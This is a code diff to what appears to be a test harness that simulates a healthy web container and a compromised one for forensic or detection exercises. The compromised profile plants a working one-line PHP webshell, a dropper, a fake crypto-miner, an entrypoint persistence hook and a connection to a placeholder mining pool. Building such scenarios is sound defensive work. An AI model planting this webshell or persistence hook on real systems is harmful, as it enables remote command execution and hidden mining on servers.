@@ -5,9 +5,10 @@ process, the files laid into the container's root before it starts, and a few sp
 (a fake mining pool to connect to, a crafted /proc/net/tcp). Named profiles:
 
 - ``web``: busybox root (the image "registry.example.com/shop/web": /docker-entrypoint.sh,
-  /var/www/index.html, an empty /docker-entrypoint.d/, all dated IMAGE_TIME); the entrypoint
-  starts ``httpd`` on 0.0.0.0:8080, sources /docker-entrypoint.d/*.sh, and loops writing
-  access-log lines to stdout (its only child besides httpd: one ``sleep 5`` at a time).
+  /var/www/index.html, an empty /docker-entrypoint.d/ and the named pipe /run/web.tick, all
+  dated IMAGE_TIME); the entrypoint starts ``httpd`` on 0.0.0.0:8080, sources
+  /docker-entrypoint.d/*.sh, and loops writing access-log lines to stdout every 5 s without
+  forking (it waits on /run/web.tick): its only child is httpd.
 - ``compromised-web``: web plus exactly what ``plant`` lays down (see there): the replicas of a
   web Deployment differ only by that, and by noise (pids, start times, addresses, hostname,
   atimes, kubelet-written /etc files, logs).
@@ -46,12 +47,15 @@ WEBSHELL_PATH = "/var/www/upload.php"
 HOOK_PATH = "/docker-entrypoint.d/99-healthcheck.sh"
 # appended to the miner's copy of fcapp: its sha256 is that of no file of any image
 MINER_MARK = b"\0kworkerds xmrig-6.21.0 fake build for tests\0"
+# when the planted files were "dropped": about 3.2 days before this server started, the same for
+# every compromise it makes (so that compromised replicas list alike)
+PLANT_TIME = float(int(time.time() - 3.2 * 86400))
 
 
 @dataclass
 class FileSpec:
     """One entry laid into a container's root before it starts (parents are created).
-    Exactly one of content, copy_of, symlink, directory, sparse_size says what it is."""
+    Exactly one of content, copy_of, symlink, directory, fifo, sparse_size says what it is."""
     path: bytes                       # absolute path inside the container (any bytes but NUL)
     content: bytes | None = None
     copy_of: str | None = None        # COPY_FCAPP
@@ -60,6 +64,7 @@ class FileSpec:
     sparse_size: int | None = None    # a sparse file of that size (nothing written)
     mode: int = 0o644
     mtime: float | None = None        # seconds since the epoch; None: now
+    fifo: bool = False                # a named pipe
     image: bool = False               # part of the image: laid first, its parent dirs dated IMAGE_TIME
     append: bytes = b""               # copy_of: bytes appended to the copy
 
@@ -73,6 +78,7 @@ class ContainerSpec:
     files: list[FileSpec] = field(default_factory=list)
     needs_pool: bool = False                      # the fake pool must be reachable
     mask_net_tcp: bytes | None = None             # what /proc/net/tcp shows inside
+    dir_times: dict = field(default_factory=dict)  # existing dirs re-dated last: {path: mtime}
 
 
 @dataclass
@@ -84,18 +90,14 @@ class ProfileContext:
     host_network: bool
 
 
-def _ago(days: float) -> float:
-    return time.time() - days * 86400
-
-
 def _script_file(path: str, text: str, mtime: float | None = None, image: bool = False) -> FileSpec:
     return FileSpec(path.encode(), text.encode(), mode=0o755, mtime=mtime, image=image)
 
 
 _WEB_INDEX = "<html><body><h1>shop</h1></body></html>\n"
 
-# No command substitution or other forks in the loop: a process listing of a healthy replica is
-# always sh, httpd and one sleep.
+# No fork in the loop (it waits on a pipe that never speaks, not with sleep): a process listing
+# of a healthy replica is always exactly sh and httpd, whenever it is taken.
 _WEB_ENTRYPOINT = """\
 #!/bin/sh
 # web: an HTTP server, the image's entrypoint hooks, and an access log on stdout
@@ -104,11 +106,12 @@ echo "web: httpd listening on :8080"
 for hook in /docker-entrypoint.d/*.sh; do
   [ -r "$hook" ] && . "$hook"
 done
+exec 3<> /run/web.tick
 i=0
 while true; do
   i=$((i+1))
   echo "10.244.0.1 - - \\"GET /healthz HTTP/1.1\\" 200 2 req=$i"
-  sleep 5
+  read -t 5 _ <&3
 done
 """
 
@@ -120,7 +123,8 @@ def _web(ctx: ProfileContext) -> ContainerSpec:
         files=[_script_file("/docker-entrypoint.sh", _WEB_ENTRYPOINT, IMAGE_TIME, image=True),
                FileSpec(b"/var/www/index.html", _WEB_INDEX.encode(), mtime=IMAGE_TIME, image=True),
                FileSpec(b"/docker-entrypoint.d", directory=True, mode=0o755, mtime=IMAGE_TIME,
-                        image=True)])
+                        image=True),
+               FileSpec(b"/run/web.tick", fifo=True, mode=0o600, mtime=IMAGE_TIME, image=True)])
 
 
 _PAYLOAD = f"""\
@@ -156,9 +160,10 @@ class Plant:
 
     - files: the webshell /var/www/upload.php, the dropper /tmp/.x/payload.sh, the miner
       /tmp/.x/kworkerds (a static ELF whose sha256 matches no file of any image) and its
-      /tmp/.x/config.json, all dated about 3 days back, and the persistence hook
-      /docker-entrypoint.d/99-healthcheck.sh (the image's entrypoint sources *.sh there); so also
-      the new directory /tmp/.x and the mtimes of /tmp, /var/www and /docker-entrypoint.d;
+      /tmp/.x/config.json, and the persistence hook /docker-entrypoint.d/99-healthcheck.sh (the
+      image's entrypoint sources *.sh there); so also the new directory /tmp/.x, and the mtimes of
+      /tmp, /var/www and /docker-entrypoint.d. All dated from PLANT_TIME (~3.2 days before the
+      server started), identically in every compromise;
     - one process: ``argv`` (comm kworkerds, exe /tmp/.x/kworkerds, uid 0, parent the
       container's PID 1), writing to the container's log;
     - one connection: ESTABLISHED from the pod IP to the pool 198.51.100.7:3333 (not under
@@ -166,13 +171,15 @@ class Plant:
     """
     files: list[FileSpec]
     argv: list[str]
+    dir_times: dict[bytes, float]     # the parents of planted files, dated by what was dropped in them
 
 
 def plant(ctx: ProfileContext) -> Plant:
-    dropped = _ago(3.2)
+    dropped = PLANT_TIME
     argv = miner_argv(ctx.host_network)
+    shell_time = dropped - 8640
     files = [
-        FileSpec(WEBSHELL_PATH.encode(), b"<?php system($_GET['c']); ?>\n", mtime=dropped - 0.1 * 86400),
+        FileSpec(WEBSHELL_PATH.encode(), b"<?php system($_GET['c']); ?>\n", mtime=shell_time),
         FileSpec(PLANT_DIR.encode(), directory=True, mode=0o755, mtime=dropped),
         _script_file(f"{PLANT_DIR}/payload.sh", _PAYLOAD, mtime=dropped),
         FileSpec(MINER_PATH.encode(), copy_of=COPY_FCAPP, append=MINER_MARK, mode=0o755,
@@ -180,14 +187,18 @@ def plant(ctx: ProfileContext) -> Plant:
         FileSpec(f"{PLANT_DIR}/config.json".encode(), _MINER_CONFIG.encode(), mtime=dropped + 41),
         _script_file(HOOK_PATH, " ".join(argv) + " &\n", mtime=dropped + 42),
     ]
-    return Plant(files, argv)
+    dir_times = {b"/var/www": shell_time, b"/tmp": dropped,
+                 b"/docker-entrypoint.d": dropped + 42}
+    return Plant(files, argv, dir_times)
 
 
 def _compromised_web(ctx: ProfileContext) -> ContainerSpec:
     # The entrypoint sources the planted hook, which starts the miner: its third process (PID 3,
     # after sh and httpd), as if the container had restarted after the compromise.
     spec = _web(ctx)
-    spec.files += plant(ctx).files
+    planted = plant(ctx)
+    spec.files += planted.files
+    spec.dir_times.update(planted.dir_times)
     spec.needs_pool = not ctx.host_network
     return spec
 
